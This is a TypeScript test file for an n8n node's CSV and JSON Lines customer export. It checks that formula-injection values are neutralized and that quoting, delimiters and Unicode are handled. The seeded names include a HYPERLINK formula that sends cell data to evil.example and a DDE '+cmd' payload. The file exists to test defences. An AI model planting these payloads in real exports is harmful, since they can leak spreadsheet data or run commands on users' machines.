/**
 * What the CSV export does with hostile and unusual values (issue 24), through n8n-core in the
 * filesystem binary mode: customers whose fields a buyer could have typed (formulas, quotes,
 * commas, line breaks, accents, CJK, emoji), nested objects, arrays, a negative amount, and a
 * field that only a record of a later page has. The same records to JSON Lines are the items'
 * JSON unchanged.
 */
import type { IDataObject, INodeParameters } from 'n8n-workflow';

import { useBinaryMode } from '../support/harness/binary';
import { runNode } from '../support/harness/n8n-core';
import { parseCsv } from '../support/helpers/csv';
import { exportCustomersOf2030 } from '../support/helpers/export';
import { dataCredentials, useSimulator } from '../support/helpers/sim';
import type { JsonObject } from '../support/simulator/core';

const sim = useSimulator({ size: 10 });

const NAMES = [
	'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
	'+cmd|" /C calc"!A0',
	'-2+3',
	'@SUM(A1:A9)',
	'\tTab first',
	'\rCarriage first',
	'\u0000=1+2',
	'x;=1+2',
	'-12,50',
	'1.234,56',
	'Müller, José "Zé"\nSão Paulo – 東京 😀',
	'-150',
];

/** Customers created in 2030, newest first as the platform lists them: one per crafted name. */
function seedCrafted(): JsonObject[] {
	const businessId = sim().credentials.businessId;
	const crafted = NAMES.map((name, n) => ({
		id: `crafted-${n}`,
		name,
		email: `crafted${n}@mail.example`,
		balanceInCents: -150 - n,
		tags: ['vip', 'a,b', 'quote"d'],
		document: { type: 'CPF', number: '000.000.000-00' },
		address: { city: n === 0 ? 'Zürich' : 'Rio', extra: {} },
		note: null,
		// Only the oldest has it: it comes on the last page.
		...(n === NAMES.length - 1 ? { vipSince: '2030-01-01', '=danger': 'late' } : {}),
		createdAt: new Date(Date.UTC(2030, 0, 20 - n)).toISOString(),
		updatedAt: new Date(Date.UTC(2030, 0, 20 - n)).toISOString(),
		_businessId: businessId,
	}));
	sim().state.col('customers').push(...(crafted as unknown as JsonObject[]));
	return crafted as unknown as JsonObject[];
}

let crafted: JsonObject[] = [];

beforeAll(async () => {
	crafted = seedCrafted();
	await useBinaryMode('filesystem');
});

afterAll(async () => {
	await useBinaryMode('default');
});

async function exportCustomers(extra: INodeParameters) {
	const { items, error, bytes } = await exportCustomersOf2030(sim(), extra);
	expect(error).toBeUndefined();
	return { items, text: bytes.toString('utf8') };
}

describe('CSV of hostile and unusual values', () => {
	it('quotes, commas, line breaks and non-ASCII survive an RFC 4180 reader byte for byte; formulas get a leading quote', async () => {
		const { items, text } = await exportCustomers({ output: 'csvFile' });
		const [header, ...rows] = parseCsv(text);
		expect(header).toEqual([
			'id',
			'name',
			'email',
			'balanceInCents',
			'tags',
			'document.type',
			'document.number',
			'address.city',
			'note',
			'createdAt',
			'updatedAt',
			'_extraFields',
		]);
		expect(rows).toHaveLength(NAMES.length);
		const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
		expect(column('name')).toEqual([
			'\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
			'\'+cmd|" /C calc"!A0',
			"'-2+3",
			"'@SUM(A1:A9)",
			"'\tTab first",
			"'\rCarriage first",
			// NUL is a formula start too (ASVS 5.0 1.2.10).
			"'\u0000=1+2",
			// A `;` locale splits this comma file's cell at the `;`: the part after it is neutralized.
			"x;'=1+2",
			// Numbers in either decimal notation are not formulas.
			'-12,50',
			'1.234,56',
			'Müller, José "Zé"\nSão Paulo – 東京 😀',
			// A text that is a plain number is not a formula.
			'-150',
		]);
		// Negative amounts are numbers: never prefixed.
		expect(column('balanceInCents')).toEqual(crafted.map((c) => String(c.balanceInCents)));
		expect(column('tags')).toEqual(crafted.map(() => JSON.stringify(['vip', 'a,b', 'quote"d'])));
		expect(column('address.city')[0]).toBe('Zürich');
		expect(column('note')).toEqual(crafted.map(() => ''));
		// The field only the last page has: kept in the last column, named in the summary.
		expect(column('_extraFields')).toEqual([...crafted.slice(0, -1).map(() => ''), JSON.stringify({ vipSince: '2030-01-01', '=danger': 'late' })]);
		expect(items[0].json).toMatchObject({ records: NAMES.length, pages: 4, extraFields: ['vipSince', '=danger'], recordsWithExtraFields: 1 });
		// As written: quoted where needed, quotes doubled, CRLF between records, UTF-8.
		expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
		expect(text).toContain('"Müller, José ""Zé""\nSão Paulo – 東京 😀"');
		expect(text.split('\r\n')).toHaveLength(NAMES.length + 2);
		expect(Buffer.from(text, 'utf8').includes(Buffer.from('東京 😀', 'utf8'))).toBe(true);
	});

	it.each([
		[';', 'semicolon'],
		['\t', 'tab'],
	])('Delimiter %j (%s): the same rows and columns; a formula after another locale\'s delimiter neutralized', async (delimiter) => {
		const comma = parseCsv((await exportCustomers({ output: 'csvFile' })).text);
		const { items, text } = await exportCustomers({ output: 'csvFile', fileOptions: { delimiter } });
		const rows = parseCsv(text, delimiter);
		expect(rows[0]).toEqual(comma[0]);
		expect(rows).toHaveLength(comma.length);
		const name = rows.map((row) => row[1]).slice(1);
		// The file's own delimiter is quoted, so its reader never splits there: `x;=1+2` stays in a `;` file.
		expect(name[NAMES.indexOf('x;=1+2')]).toBe(delimiter === ';' ? 'x;=1+2' : "x;'=1+2");
		expect(name[NAMES.indexOf('-12,50')]).toBe('-12,50');
		expect(name[NAMES.indexOf('Müller, José "Zé"\nSão Paulo – 東京 😀')]).toBe('Müller, José "Zé"\nSão Paulo – 東京 😀');
		// The JSON of the late fields: a comma of it is a delimiter to a comma reader of this file, so a
		// text after it that starts a formula is neutralized as well.
		expect(rows.at(-1)!.at(-1)).toBe(JSON.stringify({ vipSince: '2030-01-01', "'=danger": 'late' }));
		// Every other cell as in the comma file.
		const others = (table: string[][]) => table.map((row) => row.filter((_, k) => k !== 1 && k !== row.length - 1));
		expect(others(rows)).toEqual(others(comma));
		expect(items[0].json).toMatchObject({ records: NAMES.length, fileName: 'customers.csv' });
	});

	it('Header Row off: the rows only', async () => {
		const { text } = await exportCustomers({ output: 'csvFile', fileOptions: { headerRow: false } });
		const withHeader = parseCsv((await exportCustomers({ output: 'csvFile' })).text);
		expect(parseCsv(text)).toEqual(withHeader.slice(1));
	});

	it('Delimiter other than comma, semicolon or tab: an error naming the field, before any request', async () => {
		sim().clearRequests();
		const { error } = await runNode(
			{ parameters: { resource: 'customer', operation: 'getMany', returnAll: true, output: 'csvFile', fileOptions: { delimiter: '|' } } },
			{ credentials: dataCredentials(sim()) },
		);
		expect(error?.message).toBe('Delimiter must be a comma (,), a semicolon (;) or a tab (got "|")');
		expect(sim().requests).toHaveLength(0);
	});

	it('with Neutralize Formulas off, every value is written as it is', async () => {
		const { text } = await exportCustomers({ output: 'csvFile', fileOptions: { neutralizeFormulas: false } });
		const [header, ...rows] = parseCsv(text);
		expect(rows.map((row) => row[header.indexOf('name')])).toEqual(NAMES);
	});

	it('JSON Lines holds each record as the items do, values untouched', async () => {
		const asItems = await exportCustomers({});
		const { text } = await exportCustomers({ output: 'jsonLinesFile' });
		const lines = text.split('\n');
		expect(lines.at(-1)).toBe('');
		expect(lines.slice(0, -1).map((line) => JSON.parse(line) as IDataObject)).toEqual(asItems.items.map((i) => i.json));
		expect((JSON.parse(lines[10]) as IDataObject).name).toBe(NAMES[10]);
	});
});
